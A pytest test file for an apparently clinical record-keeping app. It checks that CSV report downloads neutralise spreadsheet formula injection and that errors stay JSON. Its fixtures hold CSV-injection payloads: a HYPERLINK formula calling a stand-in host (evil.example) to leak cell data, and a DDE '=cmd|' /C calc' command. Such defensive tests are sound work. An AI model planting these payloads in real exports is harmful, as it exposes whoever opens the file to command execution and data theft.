"""The reports' CSV downloads: only a report's rows are CSV (errors and OPTIONS are JSON), and a
cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest

from recordkeeping.api.renderers import spreadsheet_safe
from recordkeeping.roles import CLINICIAN, FRONT_DESK
from reports.api import REPORT_VIEWS
from tests.conftest import token_client
from tests.factories import (
    CourseFactory,
    InjectateFactory,
    OutcomeScoreFactory,
    PatientFactory,
    SessionFactory,
    SiteFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example","Click")', "+SUM(1+1)", "-2+3", "@cmd", "\tx", "\r=1"]


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.fixture
def clinician(db):
    return UserFactory(username="dr.csv", role=CLINICIAN)


@pytest.mark.parametrize("name", REPORT_VIEWS)
def test_options_of_a_report_asked_for_as_csv_is_described_in_json(clinician, name):
    response = token_client(clinician).options(f"/api/v1/reports/{name}/?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["renders"] == ["application/json", "text/csv"]


@pytest.mark.parametrize(
    ("method", "query", "status"),
    [
        ("get", "&date_from=soon", 400),
        ("post", "", 405),
        ("put", "", 405),
        ("delete", "", 405),
    ],
)
def test_a_failed_csv_request_answers_problem_details(clinician, method, query, status):
    client = token_client(clinician)
    response = getattr(client, method)(f"/api/v1/reports/safety/?format=csv{query}")
    assert response.status_code == status
    assert response["Content-Type"] == "application/problem+json"
    assert response.json()["status"] == status


def test_a_report_the_role_may_not_run_as_csv_is_a_403_in_json(db):
    desk = token_client(UserFactory(username="desk.csv", role=FRONT_DESK))
    response = desk.get("/api/v1/reports/safety/?format=csv")
    assert response.status_code == 403
    assert response["Content-Type"] == "application/problem+json"
    assert "report" in response.json()["detail"]


def test_an_anonymous_csv_request_is_a_401_in_json(client):
    response = client.get("/api/v1/reports/safety/?format=csv")
    assert response.status_code == 401
    assert response["Content-Type"] == "application/problem+json"


def test_recall_csv_writes_formulas_typed_as_lot_or_name_as_text(clinician):
    lot = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
    patient = PatientFactory(given_name="+SUM(1+1)", family_name="@Mallory")
    session = SessionFactory(patient=patient, clinician=clinician)
    injectate = InjectateFactory(session=session, prp=True, lot_number=lot, line=1)
    SiteFactory(session=session, injectate=injectate, structure="-2+3 tendon", line=1)

    [row] = rows_of(
        token_client(clinician).get("/api/v1/reports/recall/", {"lot_number": lot, "format": "csv"})
    )
    assert row["lot_number"] == "'" + lot
    assert row["given_name"] == "'+SUM(1+1)"
    assert row["family_name"] == "'@Mallory"
    assert row["mrn"] == patient.mrn  # ordinary text is untouched


def test_courses_ended_csv_writes_a_formula_typed_as_the_reason_as_text(clinician):
    CourseFactory(
        status="stopped",
        stop_reason="=cmd|' /C calc'!A0",
        start_date=datetime.date(2025, 1, 6),
        ended_on=datetime.date(2025, 3, 3),
    )
    [row] = rows_of(
        token_client(clinician).get("/api/v1/reports/courses-ended/", {"format": "csv"})
    )
    assert row["reason"] == "'=cmd|' /C calc'!A0"
    assert row["courses"] == "1"


def test_outcomes_csv_writes_a_negative_change_as_a_number(clinician):
    course = CourseFactory(start_date=datetime.date(2025, 3, 3))
    for time_point, score, day in (("baseline", 8, 3), ("6w", 5, 14)):
        OutcomeScoreFactory(
            patient=course.patient,
            course=course,
            instrument="nprs",
            time_point=time_point,
            score=Decimal(score),
            measured_on=datetime.date(2025, 3 if day == 3 else 4, day),
        )
    rows = rows_of(token_client(clinician).get("/api/v1/reports/outcomes/", {"format": "csv"}))
    [six_weeks] = [row for row in rows if (row["instrument"], row["time_point"]) == ("nprs", "6w")]
    assert Decimal(six_weeks["median_change"]) == Decimal("-3")


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_a_quote_in_front(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("number", [-3, Decimal("-1.5"), -0.25, 0, 7])
def test_numbers_negative_ones_included_are_written_as_numbers(number):
    assert spreadsheet_safe(number) is number


@pytest.mark.parametrize("text", ["K20931", "Moved away", "", "a=b", "O'Neil", "2025-03-03"])
def test_ordinary_text_is_written_as_it_is(text):
    assert spreadsheet_safe(text) == text
